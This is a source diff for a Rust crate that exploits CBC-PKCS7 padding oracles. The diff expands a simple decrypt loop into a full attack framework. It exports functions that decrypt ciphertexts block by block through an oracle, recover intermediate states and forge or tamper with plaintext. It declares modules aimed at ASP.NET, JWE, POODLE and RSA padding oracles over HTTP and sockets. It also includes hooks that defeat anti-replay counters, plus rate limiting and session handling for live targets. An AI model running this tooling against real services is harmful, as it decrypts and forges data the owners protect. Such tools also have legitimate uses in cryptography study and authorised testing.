@@ -1,23 +1,235 @@
 //! A simple Rust crate to exploit CBC-PKCS7 padding oracles.
 //! See [decrypt] or the examples on how to use.
+//! To drive the oracle queries yourself, see [PaddingOracleAttack].
 
 #![no_std]
-#![cfg_attr(not(feature="std"), feature(error_in_core))]
+#![cfg_attr(not(feature = "std"), feature(error_in_core))]
 
 extern crate alloc;
+#[cfg(feature = "std")]
+extern crate std;
+
 use alloc::vec::Vec;
 
 use thiserror::Error;
 
+pub mod aspnet;
+#[cfg(feature = "async")]
+mod asynchronous;
+mod attack;
+mod balance;
+mod base64;
+mod batch;
+mod bigint;
+#[cfg(any(feature = "tokio", feature = "smol"))]
+pub mod blocking;
+mod blocks;
+mod builder;
+mod byte_set;
+#[cfg(feature = "std")]
+mod cache;
+mod calibrate;
+mod cancel;
+mod checkpoint;
+mod detect;
+mod encrypt;
+mod estimate;
+mod failover;
+mod failure;
+#[cfg(feature = "ffi")]
+pub mod ffi;
+mod forge;
+mod guess;
+#[cfg(feature = "http")]
+pub mod http;
+#[cfg(feature = "std")]
+pub mod io;
+pub mod jwe;
+mod last_byte;
+mod length;
+mod memo;
+mod options;
+mod oracle;
+mod padding;
+#[cfg(feature = "rayon")]
+mod parallel;
+mod poodle;
+mod progress;
+#[cfg(feature = "std")]
+mod rate_limit;
+mod records;
+mod report;
+#[cfg(feature = "std")]
+mod retry;
+mod rng;
+mod rsa;
+pub mod rsa_oaep;
+pub mod rsa_pkcs1;
+mod session;
+#[cfg(feature = "std")]
+pub mod socket;
+mod stats;
+mod tamper;
+pub mod testing;
+mod text;
+#[cfg(feature = "std")]
+mod timing;
+mod transform;
+pub mod util;
+mod verify;
+mod vote;
+
+#[cfg(feature = "async")]
+pub use asynchronous::{
+    decrypt_async, decrypt_async_cancellable, decrypt_async_concurrent, decrypt_stream,
+    AsyncPaddingOracle,
+};
+pub use attack::PaddingOracleAttack;
+pub use balance::{Balancing, LoadBalanced};
+pub use batch::{decrypt_batched, decrypt_batched_with_options, BatchOracle};
+pub use blocks::{decrypt_iter, Blocks};
+pub use builder::{Attack, AttackBuilder, IvLocation};
+pub use byte_set::ByteSet;
+#[cfg(feature = "std")]
+pub use cache::IntermediateCache;
+pub use calibrate::calibrate_transport;
+pub use cancel::{decrypt_cancellable, Cancellation};
+pub use checkpoint::{decrypt_resumable, resume, AttackState};
+pub use detect::{detect_blocksize, detect_padding_scheme};
+pub use encrypt::encrypt;
+pub use estimate::{estimate_queries, QueryEstimate};
+pub use failover::Failover;
+pub use failure::{decrypt_with_failure, DecryptionFailure};
+pub use forge::ForgeKit;
+pub use guess::{EnglishText, GuessContext, GuessStrategy};
+pub use last_byte::recover_last_bytes;
+pub use length::plaintext_length;
+pub use memo::{CacheStats, Memoized};
+pub use options::{BlockOrder, CandidateOrder, DecryptOptions, FinalBlock, Layout, Verification};
+pub use oracle::{ByRef, MacResult, OracleResponse, OracleResult, PaddingOracle};
+pub use padding::PaddingScheme;
+#[cfg(feature = "rayon")]
+pub use parallel::{
+    decrypt_parallel, decrypt_parallel_with_options, decrypt_speculative,
+    decrypt_speculative_with_options,
+};
+pub use poodle::{decrypt_poodle, AlignedRecord};
+pub use progress::{Progress, ProgressCallback};
+#[cfg(feature = "std")]
+pub use rate_limit::{RateLimiter, Throttled};
+pub use records::{
+    decrypt_first_block, decrypt_records, decrypt_records_with_derived_iv,
+    decrypt_records_with_options, decrypt_with_iv, recover_iv,
+};
+pub use report::AttackReport;
+#[cfg(feature = "std")]
+pub use retry::{OracleUnavailable, Retrying};
+pub use session::{RefreshSchedule, SessionExpired, Stateful, StatefulOracle};
+pub use stats::AttackStats;
+pub use tamper::{flip_plaintext, rewrite_plaintext};
+#[cfg(feature = "std")]
+pub use timing::{TimingOptions, TimingOracle};
+pub use transform::Transformed;
+pub use verify::verify_oracle;
+pub use vote::MajorityVote;
+
 #[derive(Error, Debug)]
 pub enum Error {
     #[error("invalid ciphertext size. The length should be a multiple of {blocksize}, but the length is {found}")]
     WrongSize { blocksize: usize, found: usize },
 
+    #[error("invalid blocksize {blocksize}. It should be between 1 and 255 bytes")]
+    InvalidBlocksize { blocksize: usize },
+
+    #[error("couldn't decrypt byte {byte} of block {block} after {queries} queries, with {false_positives} valid candidates rejected by their double check. Make sure your oracle is valid and that PKCS7 padding is used")]
+    InvalidPadding {
+        block: usize,
+        byte: usize,
+        queries: usize,
+        false_positives: usize,
+    },
+
+    #[error("the attack isn't finished yet")]
+    Unfinished,
+
+    #[error("block {block} is out of range, the ciphertext has {blocks} blocks including the IV")]
+    InvalidBlock { block: usize, blocks: usize },
+
     #[error(
-        "couldn't decrypt the data. Make sure your oracle is valid and that PKCS7 padding is used"
+        "invalid IV size. The IV should be {blocksize} bytes long, but it is {found} bytes long"
     )]
-    InvalidPadding,
+    WrongIvSize { blocksize: usize, found: usize },
+
+    #[error(
+        "the recovered plaintext doesn't end with a valid padding. Make sure your oracle is valid"
+    )]
+    InconsistentPadding,
+
+    #[error("block {block} was recovered, but the oracle rejected the padding forged from it. Make sure your oracle is valid")]
+    UnconfirmedBlock { block: usize },
+
+    #[error("the attack was cancelled after recovering {} blocks", .partial.len())]
+    Cancelled { partial: Vec<(usize, Vec<u8>)> },
+
+    #[error("the attack ran out of queries after recovering {} blocks in {} queries", .partial.len(), .stats.queries)]
+    QueryBudgetExceeded {
+        partial: Vec<(usize, Vec<u8>)>,
+        stats: AttackStats,
+    },
+
+    #[cfg(feature = "std")]
+    #[error("the attack timed out after recovering {} blocks in {} queries", .partial.len(), .stats.queries)]
+    TimedOut {
+        partial: Vec<(usize, Vec<u8>)>,
+        stats: AttackStats,
+    },
+
+    #[error("expected {expected} bytes, but found {found}")]
+    LengthMismatch { expected: usize, found: usize },
+
+    #[error("range {start}..{end} is out of the plaintext, which is {len} bytes long")]
+    InvalidRange {
+        start: usize,
+        end: usize,
+        len: usize,
+    },
+
+    #[error("the plaintext is too long: at most {max} bytes can be forged, but found {found}")]
+    PlaintextTooLong { max: usize, found: usize },
+
+    #[error("the forge kit doesn't have any intermediate state")]
+    EmptyForgeKit,
+
+    #[error("the ciphertext is too short: it should be at least {min} bytes long, but it is {found} bytes long")]
+    TooShort { min: usize, found: usize },
+
+    #[error("the oracle rejected the original ciphertext. Make sure it is encoded the way the oracle expects")]
+    RejectedCiphertext,
+
+    #[error("the oracle accepted a ciphertext with an invalid padding. Make sure it reports padding errors")]
+    OracleAlwaysValid,
+
+    #[error("the oracle rejected the ciphertext without its first block. Make sure the blocksize is {blocksize} and the IV is prepended")]
+    Misaligned { blocksize: usize },
+
+    #[error("the attack doesn't support {padding:?} padding, which only tells the last byte of each block")]
+    UnsupportedPadding { padding: PaddingScheme },
+
+    #[error("the oracle answers contradict each other. Make sure your oracle is valid")]
+    InconsistentOracle,
+
+    #[error("the checkpoint is inconsistent, it may have been corrupted")]
+    InvalidCheckpoint,
+
+    #[error("the oracle couldn't tell whether the padding is valid")]
+    Inconclusive,
+
+    #[error("the oracle failed: {0}")]
+    Oracle(#[from] alloc::boxed::Box<dyn core::error::Error + Send + Sync>),
+
+    #[cfg(feature = "std")]
+    #[error(transparent)]
+    Io(#[from] std::io::Error),
 }
 
 type Result<T> = core::result::Result<T, Error>;
@@ -64,59 +276,297 @@ type Result<T> = core::result::Result<T, Error>;
 /// // Perform the attack
 /// let plaintext = padding_oracle::decrypt(&ciphertext, 16, oracle).unwrap();
 ///```
+pub fn decrypt(ciphertext: &[u8], blocksize: usize, oracle: impl PaddingOracle) -> Result<Vec<u8>> {
+    run(PaddingOracleAttack::new(ciphertext, blocksize)?, oracle)
+}
+
+/// Same as [decrypt], with custom options.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 16];
+/// use padding_oracle::{DecryptOptions, Layout};
+///
+/// // The oracle rejects ciphertexts that are not as long as the original one
+/// let options = DecryptOptions {
+///     layout: Layout::FixedLength { checked_block: None },
+///     ..Default::default()
+/// };
+///
+/// let plaintext = padding_oracle::decrypt_with_options(&ciphertext, 16, oracle, &options);
+/// ```
+pub fn decrypt_with_options(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl PaddingOracle,
+    options: &DecryptOptions,
+) -> Result<Vec<u8>> {
+    run(
+        PaddingOracleAttack::with_options(ciphertext, blocksize, options)?,
+        oracle,
+    )
+}
+
+/// Same as [decrypt], but writes the plaintext at the start of `output` instead of allocating it,
+/// and returns its length.
+///
+/// `output` must hold at least the ciphertext without its IV, or this returns
+/// [Error::LengthMismatch] before querying the oracle.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 48];
+/// let mut plaintext = [0u8; 32];
+///
+/// if let Ok(len) = padding_oracle::decrypt_into(&ciphertext, 16, oracle, &mut plaintext) {
+///     println!("{:?}", &plaintext[..len]);
+/// }
+/// ```
+pub fn decrypt_into(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl PaddingOracle,
+    output: &mut [u8],
+) -> Result<usize> {
+    let mut attack = PaddingOracleAttack::new(ciphertext, blocksize)?;
+
+    let expected = ciphertext.len().saturating_sub(blocksize);
+    if output.len() < expected {
+        return Err(Error::LengthMismatch {
+            expected,
+            found: output.len(),
+        });
+    }
+
+    drive(&mut attack, oracle)?;
+    attack.finish_into(output)
+}
+
+/// Decrypt a single block of the ciphertext, counting the IV as block `0`.
+///
+/// Only the block and the one before it are ever sent to the oracle, as `[C_{k-1}][C_k]`. This
+/// is the cheapest way to extract a block in the middle of a long ciphertext, and works against
+/// oracles that only check the last block. Block `1` uses the IV as its previous block.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 64];
+/// // Recover only the second block of plaintext
+/// let plaintext = padding_oracle::decrypt_block(&ciphertext, 16, 2, oracle);
+/// ```
+pub fn decrypt_block(
+    ciphertext: &[u8],
+    blocksize: usize,
+    block: usize,
+    oracle: impl PaddingOracle,
+) -> Result<Vec<u8>> {
+    check_blocksize(blocksize)?;
 
-pub fn decrypt(ciphertext: &[u8], blocksize: usize, oracle: fn(&[u8]) -> bool) -> Result<Vec<u8>> {
-    // Returns if ciphertext length does not align with blocks
-    if ciphertext.len() % blocksize != 0 {
+    if !ciphertext.len().is_multiple_of(blocksize) {
         return Err(Error::WrongSize {
             blocksize,
             found: ciphertext.len(),
         });
     }
 
-    let mut plaintext = b"".to_vec();
-    let mut ciphertext = ciphertext.to_vec();
+    let blocks = ciphertext.len() / blocksize;
 
-    for _ in 0..ciphertext.len() / blocksize - 1 {
-        // Loop to bruteforce one block
-        for i in 1..=blocksize {
-            let offset = ciphertext.len() - blocksize - i;
-            let initial_byte = ciphertext[offset];
+    if block == 0 || block >= blocks {
+        return Err(Error::InvalidBlock { block, blocks });
+    }
 
-            let mut ciphertext = ciphertext.to_vec();
+    decrypt_single_block(
+        &ciphertext[(block - 1) * blocksize..block * blocksize],
+        &ciphertext[block * blocksize..(block + 1) * blocksize],
+        blocksize,
+        oracle,
+    )
+}
 
-            // Fix remaining bytes of the padding
-            for j in 1..i {
-                ciphertext[offset + j] = i as u8 ^ plaintext[j - 1] ^ ciphertext[offset + j];
-            }
+/// Decrypt a single ciphertext block, given the block before it or the IV.
+///
+/// This is the building block of the whole attack: only `[previous][block]` is ever sent to the
+/// oracle. See [decrypt_block] to pick the block out of a ciphertext.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 160];
+/// // The secret sits in the fourth block of a long token
+/// let plaintext =
+///     padding_oracle::decrypt_single_block(&ciphertext[32..48], &ciphertext[48..64], 16, oracle);
+/// ```
+pub fn decrypt_single_block(
+    previous: &[u8],
+    block: &[u8],
+    blocksize: usize,
+    oracle: impl PaddingOracle,
+) -> Result<Vec<u8>> {
+    if block.len() != blocksize {
+        return Err(Error::WrongSize {
+            blocksize,
+            found: block.len(),
+        });
+    }
 
-            match (0..=255u8).find_map(|k| {
-                ciphertext[offset] = k;
+    decrypt_with_iv(previous, block, blocksize, oracle)
+}
 
-                if oracle(&ciphertext) {
-                    // Make sure this is the padding we're looking for
-                    // See https://crypto.stackexchange.com/questions/40800/is-the-padding-oracle-attack-deterministic
+/// Same as [decrypt], but `hook` is called on every probe right before it is sent to the oracle.
+///
+/// The hook only changes what the oracle receives, not the ciphertext the attack works on. This
+/// is meant for transports with anti-replay protections, where every request must carry a fresh
+/// counter, nonce or timestamp. To transform the probes with other ways of running the attack,
+/// see [Transformed].
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 16];
+/// let mut counter = 0u64;
+///
+/// let plaintext = padding_oracle::decrypt_with_hook(&ciphertext, 16, oracle, |probe| {
+///     counter += 1;
+///     probe.splice(0..0, counter.to_be_bytes());
+/// });
+/// ```
+pub fn decrypt_with_hook(
+    ciphertext: &[u8],
+    blocksize: usize,
+    mut oracle: impl PaddingOracle,
+    mut hook: impl FnMut(&mut Vec<u8>),
+) -> Result<Vec<u8>> {
+    let mut buffer = Vec::new();
 
-                    if offset % blocksize == 0 || {
-                        let mut ciphertext = ciphertext.clone();
-                        ciphertext[offset - 1] = !ciphertext[offset - 1];
+    run(
+        PaddingOracleAttack::new(ciphertext, blocksize)?,
+        |probe: &[u8]| {
+            buffer.clear();
+            buffer.extend_from_slice(probe);
 
-                        oracle(&ciphertext)
-                    } {
-                        return Some(k);
-                    };
-                }
+            hook(&mut buffer);
+            oracle.query(&buffer)
+        },
+    )
+}
 
-                None
-            }) {
-                Some(k) => plaintext.insert(0, initial_byte ^ k ^ i as u8),
-                None => return Err(Error::InvalidPadding)
-            }
-        }
+/// Same as [decrypt], but also returns statistics about the attack, such as how many queries it
+/// took.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 16];
+/// if let Ok((plaintext, stats)) = padding_oracle::decrypt_with_stats(&ciphertext, 16, oracle) {
+///     println!("{} queries in {:?}", stats.queries, stats.duration);
+/// }
+/// ```
+pub fn decrypt_with_stats(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl PaddingOracle,
+) -> Result<(Vec<u8>, AttackStats)> {
+    let mut attack = PaddingOracleAttack::new(ciphertext, blocksize)?;
+
+    drive(&mut attack, oracle)?;
 
-        // Cut the last block
-        ciphertext.truncate(ciphertext.len() - blocksize);
+    let stats = attack.stats().clone();
+    Ok((attack.finish()?, stats))
+}
+
+/// Same as [decrypt], but also returns the intermediate decryption state of every ciphertext
+/// block after the IV, as with [PaddingOracleAttack::intermediate_block].
+///
+/// They are the blocks decrypted by the cipher, before being xored with the previous block: what
+/// [ForgeKit] forges from, and what
+/// [DecryptOptions::known_intermediates] takes to decrypt the same blocks again for free.
+///
+/// # Example
+/// ```
+/// # fn oracle(_: &[u8]) -> bool { false }
+/// # let ciphertext = [0u8; 48];
+/// if let Ok((plaintext, intermediates)) =
+///     padding_oracle::decrypt_with_intermediates(&ciphertext, 16, oracle)
+/// {
+///     for (block, intermediate) in intermediates.iter().enumerate() {
+///         println!("D(C{}) = {}", block + 1, padding_oracle::util::to_hex(intermediate));
+///     }
+/// }
+/// ```
+pub fn decrypt_with_intermediates(
+    ciphertext: &[u8],
+    blocksize: usize,
+    oracle: impl PaddingOracle,
+) -> Result<(Vec<u8>, Vec<Vec<u8>>)> {
+    let mut attack = PaddingOracleAttack::new(ciphertext, blocksize)?;
+
+    drive(&mut attack, oracle)?;
+
+    let intermediates = (1..ciphertext.len() / blocksize)
+        .filter_map(|block| attack.intermediate_block(block).map(<[u8]>::to_vec))
+        .collect();
+    Ok((attack.finish()?, intermediates))
+}
+
+/// Fails with [Error::InvalidBlocksize] unless the padding of `blocksize` fits in a byte
+pub(crate) fn check_blocksize(blocksize: usize) -> Result<()> {
+    if blocksize == 0 || blocksize > 255 {
+        return Err(Error::InvalidBlocksize { blocksize });
+    }
+
+    Ok(())
+}
+
+/// Drive the attack to completion
+fn run(mut attack: PaddingOracleAttack, oracle: impl PaddingOracle) -> Result<Vec<u8>> {
+    drive(&mut attack, oracle)?;
+    attack.finish()
+}
+
+/// Send probes until the attack is over
+fn drive(attack: &mut PaddingOracleAttack, mut oracle: impl PaddingOracle) -> Result<()> {
+    if attack.options().precheck {
+        verify::precheck(attack, oracle.by_ref())?;
+    }
+
+    // A single buffer for every probe
+    let mut probe = Vec::new();
+
+    while attack.next_probe_into(&mut probe) {
+        query(attack, &probe, &mut oracle)?;
     }
 
-    Ok(plaintext)
+    Ok(())
+}
+
+/// Send a probe to the oracle, and feed back its answer
+fn query(
+    attack: &mut PaddingOracleAttack,
+    probe: &[u8],
+    oracle: &mut impl PaddingOracle,
+) -> Result<()> {
+    let valid = ask(oracle, probe, attack.options())?;
+
+    attack.submit(valid);
+    Ok(())
+}
+
+/// Send a probe to the oracle, retrying it if the oracle fails or is inconclusive
+fn ask(oracle: &mut impl PaddingOracle, probe: &[u8], options: &DecryptOptions) -> Result<bool> {
+    let mut retries = options.retries;
+
+    loop {
+        #[cfg(feature = "std")]
+        if let Some(limiter) = &options.rate_limiter {
+            limiter.acquire();
+        }
+
+        match oracle::answer(oracle.query(probe)) {
+            Err(_) if retries > 0 => retries -= 1,
+            answer => return answer,
+        }
+    }
 }